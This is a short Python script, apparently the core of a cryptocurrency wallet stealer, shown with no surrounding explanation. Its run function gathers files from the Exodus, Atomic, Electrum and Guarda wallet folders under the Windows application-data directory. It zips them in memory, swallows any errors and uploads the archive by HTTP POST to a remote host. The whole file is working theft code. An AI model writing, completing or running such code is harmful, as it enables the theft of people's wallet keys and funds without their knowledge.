import glob
import io
import os
import zipfile
import urllib.request

WANTED = ["Exodus/exodus.wallet", "atomic/Local Storage/leveldb", "Electrum/wallets", "Guarda/Local Storage/leveldb"]


def run():
    base = os.path.expandvars("%APPDATA%")
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as z:
        for wanted in WANTED:
            for path in glob.glob(os.path.join(base, wanted, "*")):
                try:
                    z.write(path)
                except OSError:
                    pass
    request = urllib.request.Request("https://files.example.invalid/put", data=memory.getvalue(), method="POST")
    urllib.request.urlopen(request)
